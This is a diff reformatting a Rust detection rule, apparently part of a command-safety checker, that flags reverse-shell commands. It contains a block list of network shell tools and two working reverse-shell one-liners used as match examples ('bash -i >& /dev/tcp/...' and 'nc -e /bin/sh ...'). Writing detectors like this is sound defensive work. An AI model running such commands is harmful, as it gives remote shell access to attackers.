@@ -1,9 +1,9 @@
 //! Hands a shell to another machine.
 
 use super::{Check, Rule, Signal};
-use crate::verdict::Severity;
 use crate::flow::call::Call;
 use crate::flow::value::Taint;
+use crate::verdict::Severity;
 
 /// Hands a shell to another machine.
 pub(super) static RULE: Rule = Rule {
@@ -11,7 +11,42 @@ pub(super) static RULE: Rule = Rule {
     aliases: &[],
     description: "hands a shell to another machine",
     severity: Severity::Ask,
-    checks: &[Check::Signal(Signal::ReverseShell), Check::Call(&["nc", "ncat", "netcat", "socat", "telnet", "openssl", "bash", "sh", "zsh", "mkfifo", "sbd", "cryptcat", "ssh", "powercat", "pwncat", "chisel", "msfconsole", "msfvenom", "rlwrap", "xterm", "awk", "gawk", "busybox", "dash", "ksh", "lua", "ngrok", "cloudflared"], check)],
+    checks: &[
+        Check::Signal(Signal::ReverseShell),
+        Check::Call(
+            &[
+                "nc",
+                "ncat",
+                "netcat",
+                "socat",
+                "telnet",
+                "openssl",
+                "bash",
+                "sh",
+                "zsh",
+                "mkfifo",
+                "sbd",
+                "cryptcat",
+                "ssh",
+                "powercat",
+                "pwncat",
+                "chisel",
+                "msfconsole",
+                "msfvenom",
+                "rlwrap",
+                "xterm",
+                "awk",
+                "gawk",
+                "busybox",
+                "dash",
+                "ksh",
+                "lua",
+                "ngrok",
+                "cloudflared",
+            ],
+            check,
+        ),
+    ],
     matches: &[
         "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
         "nc -e /bin/sh 10.0.0.1 4444",
@@ -27,17 +62,37 @@ pub(super) static RULE: Rule = Rule {
 };
 
 fn check(call: &Call<'_>) -> bool {
-    let shellish = |text: &str| ["/bin/sh", "/bin/bash", "bash", "sh", "cmd.exe", "/bin/zsh", "powershell.exe"].iter().any(|shell| text.trim_matches(['"', '\'']).starts_with(shell));
+    let shellish = |text: &str| {
+        ["/bin/sh", "/bin/bash", "bash", "sh", "cmd.exe", "/bin/zsh", "powershell.exe"]
+            .iter()
+            .any(|shell| text.trim_matches(['"', '\'']).starts_with(shell))
+    };
     match call.program {
         "nc" | "ncat" | "netcat" | "sbd" | "cryptcat" => {
-            call.stdin.taint.has(Taint::SHELL) || call.option(&["-e", "--exec", "-c", "--sh-exec"]).is_some_and(|value| shellish(&value.text) || value.text.contains("sh")) || call.options().any(|arg| !arg.text.starts_with("--") && arg.text.ends_with('e') && arg.text.len() > 1 && call.operands().any(|value| shellish(&value.text)))
+            call.stdin.taint.has(Taint::SHELL)
+                || call
+                    .option(&["-e", "--exec", "-c", "--sh-exec"])
+                    .is_some_and(|value| shellish(&value.text) || value.text.contains("sh"))
+                || call.options().any(|arg| {
+                    !arg.text.starts_with("--")
+                        && arg.text.ends_with('e')
+                        && arg.text.len() > 1
+                        && call.operands().any(|value| shellish(&value.text))
+                })
         }
-        _ if call.stdin.taint.has(Taint::SHELL) && matches!(call.program, "telnet" | "openssl" | "socat") => true,
+        _ if call.stdin.taint.has(Taint::SHELL)
+            && matches!(call.program, "telnet" | "openssl" | "socat") =>
+        {
+            true
+        }
         "socat" => call.args.iter().any(|arg| {
             let upper = arg.text.to_ascii_uppercase();
-            (upper.contains("EXEC:") || upper.contains("SYSTEM:") || upper.contains("SHELL:")) && arg.text.to_ascii_lowercase().contains("sh")
+            (upper.contains("EXEC:") || upper.contains("SYSTEM:") || upper.contains("SHELL:"))
+                && arg.text.to_ascii_lowercase().contains("sh")
         }),
-        "bash" | "sh" | "zsh" | "dash" | "ksh" => call.flag_word("-i") && call.stdin.taint.has(Taint::DOWNLOADED),
+        "bash" | "sh" | "zsh" | "dash" | "ksh" => {
+            call.flag_word("-i") && call.stdin.taint.has(Taint::DOWNLOADED)
+        }
         "powercat" | "pwncat" | "msfconsole" | "msfvenom" => true,
         "xterm" => call.option(&["-display"]).is_some_and(|display| display.text.contains('.')),
         "awk" | "gawk" => call.args.iter().any(|arg| arg.text.contains("/inet/")),
